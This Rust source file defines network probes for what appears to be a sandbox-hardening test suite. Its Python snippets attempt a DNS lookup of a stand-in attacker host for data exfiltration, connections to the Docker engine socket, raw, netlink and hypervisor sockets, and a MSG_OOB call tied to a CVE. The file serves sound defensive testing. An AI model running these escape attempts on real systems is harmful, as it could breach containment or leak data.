//! Ways to reach anything by a socket.
//!
//! Nothing is sent beyond the loopback interface, and sockets to the hypervisor are created only, never connected.

use super::probe::Probe;
use super::probe::WithoutDefence::{Itself, SucceedsOnHost};

pub const PROBES: &[Probe] = &[
    Probe::attempt(
        "network.loopback",
        "connect to a port of this machine",
        &["EPERM", "ECONNREFUSED"],
        "socket.create_connection(('127.0.0.1', 22), 2)",
    ),
    Probe::attempt(
        "network.dns",
        "look a name up, which would carry data out",
        &["gaierror"],
        "socket.getaddrinfo('a.attacker.invalid', 80)",
    ),
    Probe::attempt(
        "network.tcp",
        "open a TCP socket",
        &["EPERM"],
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
    ),
    Probe::attempt(
        "network.udp",
        "open a UDP socket",
        &["EPERM"],
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
    ),
    Probe::attempt(
        "network.ipv6",
        "open an IPv6 socket",
        &["EPERM"],
        "socket.socket(socket.AF_INET6, socket.SOCK_STREAM)",
    )
    .absent(&["EAFNOSUPPORT"]),
    Probe::attempt(
        "network.packet",
        "open a socket of raw frames",
        &["EPERM"],
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    ),
    Probe::attempt(
        "network.raw",
        "open a raw ICMP socket",
        &["EPERM"],
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    ),
    Probe::attempt(
        "network.vsock",
        "open a socket to the hypervisor",
        &["EPERM"],
        "socket.socket(40, socket.SOCK_STREAM)",
    )
    .absent(&["EAFNOSUPPORT"]),
    Probe::attempt(
        "network.unix",
        "connect to an engine's socket",
        &["EPERM"],
        "socket.socket(socket.AF_UNIX).connect('/run/docker.sock')",
    ),
    Probe::attempt(
        "network.netlink",
        "open a netlink socket",
        &["EPERM"],
        "socket.socket(16, socket.SOCK_RAW, 0)",
    ),
    Probe::attempt(
        "network.netfilter",
        "open a netlink socket to the packet filter",
        &["EPERM"],
        "socket.socket(16, socket.SOCK_RAW, 12)",
    )
    .absent(&["EPROTONOSUPPORT"]),
    Probe::attempt(
        "network.crypto",
        "open a socket to the kernel's ciphers",
        &["EPERM"],
        "socket.socket(38, socket.SOCK_SEQPACKET, 0)",
    )
    .absent(&["EAFNOSUPPORT"]),
    Probe::attempt(
        "network.families",
        "open a socket of any family and type",
        &["EPERM"],
        r"
opened = []
for family in range(1, 46):
    for kind in (1, 2, 3, 4, 5):
        try:
            socket.socket(family, kind).close()
            opened.append(family)
        except OSError:
            pass
if not opened:
    raise PermissionError(errno.EPERM, 'none')
",
    ),
    Probe::attempt(
        "network.datagram-pair",
        "send to the name of a socket by a pair of datagram sockets",
        &["EPERM"],
        r"
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.bind('/tmp/datagrams-of-probe')
b.sendto(b'x', '/tmp/datagrams-of-probe')
os.remove('/tmp/datagrams-of-probe')
a.recv(1)
",
    ),
    Probe::attempt(
        "network.bind",
        "give an end of a socket pair a name that others can connect to",
        &["EPERM"],
        "a, b = socket.socketpair()\na.bind('/tmp/name-of-probe')\nos.remove('/tmp/name-of-probe')",
    ),
    Probe::attempt(
        "network.connect",
        "connect an end of a socket pair to an engine's socket",
        &["EPERM"],
        "a, b = socket.socketpair()\nreaches_the_kernel(lambda: a.connect('/run/docker.sock'))",
    ),
    Probe::attempt(
        "network.listen",
        "listen at an end of a socket pair",
        &["EPERM"],
        "a, b = socket.socketpair()\nreaches_the_kernel(a.listen)",
    ),
    Probe::attempt(
        "network.accept",
        "take a connection from an end of a socket pair",
        &["EPERM"],
        "a, b = socket.socketpair()\nreaches_the_kernel(a.accept)",
    ),
    Probe::attempt(
        "network.send-to-name",
        "send to the name of a socket from an end of a socket pair",
        &["EPERM"],
        "a, b = socket.socketpair()\nreaches_the_kernel(lambda: a.sendto(b'x', '/run/docker.sock'))",
    ),
    Probe::attempt(
        "network.attach-filter",
        "load a packet filter into the kernel",
        &["EPERM"],
        "a, b = socket.socketpair()\nprogram, held = filter_program(0xffff)\na.setsockopt(socket.SOL_SOCKET, 26, program.raw[:16])",
    ),
    Probe::attempt(
        "network.urgent-data",
        "send urgent data, which little else uses, over a socket pair (CVE-2025-38236)",
        &["EPERM"],
        "a, b = socket.socketpair()\na.send(b'x', socket.MSG_OOB)",
    )
    .absent(&["EOPNOTSUPP"]),
    Probe::attempt(
        "network.interfaces",
        "find an interface that leads out",
        &["EACCES"],
        r"
names = {line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]}
if names == {'lo'}:
    refuse('only the loopback interface')
",
    )
    .without_defence(SucceedsOnHost),
    Probe::attempt(
        "network.routes",
        "find a route that leads out",
        &["EACCES"],
        "if len(open('/proc/net/route').readlines()) < 2:\n    refuse('no route')",
    )
    .without_defence(SucceedsOnHost),
    Probe {
        without_defence: Itself,
        ..Probe::says(
            "network.event-loop",
            "run an event loop, whose socket pair has to remain",
            &["looped", "paired"],
            "print(asyncio.run(asyncio.sleep(0, 'looped')))\na, b = socket.socketpair()\na.send(b'paired')\nprint(b.recv(9))",
        )
    },
];
